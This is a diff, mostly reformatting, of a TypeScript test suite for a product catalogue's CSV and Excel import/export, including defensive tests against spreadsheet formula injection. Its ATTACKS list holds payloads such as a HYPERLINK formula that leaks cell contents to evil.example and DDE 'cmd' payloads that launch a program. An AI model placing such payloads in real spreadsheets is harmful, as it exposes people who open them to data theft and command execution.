@@ -3,7 +3,7 @@ import assert from 'node:assert/strict';
 import ExcelJS from 'exceljs';
 import fc from 'fast-check';
 import { testEngines } from '../../core/db/testing.ts';
-import { AppError } from '../../core/errors.ts';
+import type { AppError } from '../../core/errors.ts';
 import { tinyMarket, type Market } from '../../../test/fixtures.ts';
 import { createProduct, exportProducts, importProducts, listProducts, parseCsv, csvLine, SPREADSHEET_COLUMNS } from './index.ts';
 import { csvDocument, neutraliseCell, restoreCell } from '../../core/csv.ts';
@@ -13,9 +13,25 @@ import { sampleProduct } from '../../../test/fixtures.ts';
 const HEADER = SPREADSHEET_COLUMNS.map((c) => c.key);
 function row(leaf: string, sku: string, over: Record<string, string> = {}): string[] {
   const base: Record<string, string> = {
-    sku, category: leaf, title_zh: `测试商品 ${sku}`, title_en: `Test item ${sku}`, unit: 'pcs', moq: '120', currency: 'CNY',
-    price_1: '3.50', qty_2: '600', price_2: '3.2', stock: '1000', hs_code: '9615.1100.00', carton_units: '240', carton_length_cm: '50',
-    carton_width_cm: '40', carton_height_cm: '35', carton_gross_kg: '12.5', attributes: 'material=alloy; colour=gold', images: 'https://example.com/a.jpg',
+    sku,
+    category: leaf,
+    title_zh: `测试商品 ${sku}`,
+    title_en: `Test item ${sku}`,
+    unit: 'pcs',
+    moq: '120',
+    currency: 'CNY',
+    price_1: '3.50',
+    qty_2: '600',
+    price_2: '3.2',
+    stock: '1000',
+    hs_code: '9615.1100.00',
+    carton_units: '240',
+    carton_length_cm: '50',
+    carton_width_cm: '40',
+    carton_height_cm: '35',
+    carton_gross_kg: '12.5',
+    attributes: 'material=alloy; colour=gold',
+    images: 'https://example.com/a.jpg',
   };
   const r = { ...base, ...over };
   return HEADER.map((k) => r[k] ?? '');
@@ -23,10 +39,25 @@ function row(leaf: string, sku: string, over: Record<string, string> = {}): stri
 const csv = (rows: string[][]) => Buffer.from(csvLine(HEADER) + rows.map(csvLine).join(''), 'utf8');
 
 test('CSV reader handles quotes, commas, newlines and a BOM', () => {
-  assert.deepEqual(parseCsv('\uFEFFa,"b,c","d ""e""",\r\n"x\ny",2\n'), [['a', 'b,c', 'd "e"', ''], ['x\ny', '2']]);
+  assert.deepEqual(parseCsv('\uFEFFa,"b,c","d ""e""",\r\n"x\ny",2\n'), [
+    ['a', 'b,c', 'd "e"', ''],
+    ['x\ny', '2'],
+  ]);
 });
 
-const ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)', ' =1+1'];
+const ATTACKS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  ' =1+1',
+];
 
 test('CSV export cells beginning with = + - @ TAB CR (or ＝＋－＠) get a leading apostrophe; numbers such as -12.5 do not', () => {
   const [, row] = parseCsv(csvDocument(['a'], [[...ATTACKS, '-12.5', '+7', -12.5, 'plain', "'quoted"]]).toString('utf8'));
@@ -35,15 +66,28 @@ test('CSV export cells beginning with = + - @ TAB CR (or ＝＋－＠) get a lea
 
 test('import undoes the export neutralisation exactly, for every string (apostrophes included)', () => {
   const piece = fc.constantFrom("'", '=', '+', '-', '@', '＝', '\t', '\r', ' ', 'a', '1', '.', '保');
-  fc.assert(fc.property(fc.array(piece, { maxLength: 8 }).map((p) => p.join('')), (s) => restoreCell(neutraliseCell(s)) === s), { numRuns: 2000 });
+  fc.assert(
+    fc.property(
+      fc.array(piece, { maxLength: 8 }).map((p) => p.join('')),
+      (s) => restoreCell(neutraliseCell(s)) === s,
+    ),
+    { numRuns: 2000 },
+  );
   assert.equal(restoreCell("'abc"), "'abc", 'an apostrophe not before a formula trigger is kept');
   assert.equal(restoreCell("'=1+1"), '=1+1');
 });
 
 test('a sheet cell holding a NUL character is a row error naming the column, not a 500', () => {
   const cells: Partial<Record<ColumnKey, string>> = { sku: 'N-1', title_zh: '保温\u0000杯', moq: '1', price_1: '1', unit: 'pcs' };
-  const res = rowToInput((k) => cells[k] ?? '', 7, () => '010101');
-  assert.deepEqual(res.errors.map((e) => [e.row, e.column]), [[7, 'title_zh']]);
+  const res = rowToInput(
+    (k) => cells[k] ?? '',
+    7,
+    () => '010101',
+  );
+  assert.deepEqual(
+    res.errors.map((e) => [e.row, e.column]),
+    [[7, 'title_zh']],
+  );
   assert.match(res.errors[0]!.reason, /contains a NUL character/);
 });
 
@@ -59,12 +103,20 @@ for (const engine of testEngines()) {
 
     test('a clean sheet imports completely, prices become minor units', async () => {
       const before = await count();
-      const rep = await importProducts(m.d.db, m.merchant, csv([row(m.categoryLeaf, 'IMP-1'), row(m.categoryLeaf, 'IMP-2', { qty_2: '', price_2: '' })]), 'csv');
+      const rep = await importProducts(
+        m.d.db,
+        m.merchant,
+        csv([row(m.categoryLeaf, 'IMP-1'), row(m.categoryLeaf, 'IMP-2', { qty_2: '', price_2: '' })]),
+        'csv',
+      );
       assert.deepEqual(rep, { rows: 2, created: 2, updated: 0 });
       assert.equal(await count(), before + 2);
       const items = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items;
       const p = items.find((x) => x.sku === 'IMP-1')!;
-      assert.deepEqual(p.priceTiers, [{ minQty: 120, unitPrice: 350 }, { minQty: 600, unitPrice: 320 }]);
+      assert.deepEqual(p.priceTiers, [
+        { minQty: 120, unitPrice: 350 },
+        { minQty: 600, unitPrice: 320 },
+      ]);
       assert.equal(p.hsCode, '9615110000');
       assert.deepEqual(p.attributes, { material: 'alloy', colour: 'gold' });
     });
@@ -136,7 +188,11 @@ for (const engine of testEngines()) {
 
     test('a title =HYPERLINK(…) and other formula text export as text (csv: apostrophe; xlsx: string cell, no formula) and import back unchanged', async () => {
       const p = await createProduct(m.d.db, m.merchant, {
-        ...sampleProduct(m.categoryLeaf, '-INJ-1'), titleEn: ATTACKS[0], titleZh: '＝1+1 保温杯', descriptionEn: ATTACKS[3], attributes: { '@cmd': ATTACKS[1]!, note: '=1+1' },
+        ...sampleProduct(m.categoryLeaf, '-INJ-1'),
+        titleEn: ATTACKS[0],
+        titleZh: '＝1+1 保温杯',
+        descriptionEn: ATTACKS[3],
+        attributes: { '@cmd': ATTACKS[1]!, note: '=1+1' },
       });
       const csvFile = await exportProducts(m.d.db, m.merchant, 'csv');
       const [header, ...rows] = parseCsv(csvFile.toString('utf8'));
@@ -161,7 +217,10 @@ for (const engine of testEngines()) {
         }
       });
       assert.equal(found, 1);
-      for (const [format, file] of [['csv', csvFile], ['xlsx', xlsxFile]] as const) {
+      for (const [format, file] of [
+        ['csv', csvFile],
+        ['xlsx', xlsxFile],
+      ] as const) {
         await importProducts(m.d.db, m.merchant, file, format);
         const back = (await listProducts(m.d.db, m.merchant, { merchant: String(m.merchant.entityId), pageSize: '100' })).items.find((x) => x.id === p.id)!;
         assert.deepEqual([back.titleEn, back.titleZh, back.descriptionEn, back.attributes], [p.titleEn, p.titleZh, p.descriptionEn, p.attributes], format);
@@ -180,7 +239,16 @@ for (const engine of testEngines()) {
 
     test('the operator cannot import goods for a buyer entity: 4xx and nothing written', async () => {
       const buyerId = m.buyer.entityId!;
-      const goods = async () => Number((await m.d.db.selectFrom('products').select((eb) => eb.fn.countAll<number>().as('n')).where('merchant_id', '=', buyerId).executeTakeFirstOrThrow()).n);
+      const goods = async () =>
+        Number(
+          (
+            await m.d.db
+              .selectFrom('products')
+              .select((eb) => eb.fn.countAll<number>().as('n'))
+              .where('merchant_id', '=', buyerId)
+              .executeTakeFirstOrThrow()
+          ).n,
+        );
       await assert.rejects(importProducts(m.d.db, m.operator, csv([row(m.categoryLeaf, 'FOR-BUYER-1')]), 'csv', { merchantId: buyerId }), (e: AppError) => {
         assert.equal(e.code, 'VALIDATION');
         assert.match(e.message, /not a merchant/);
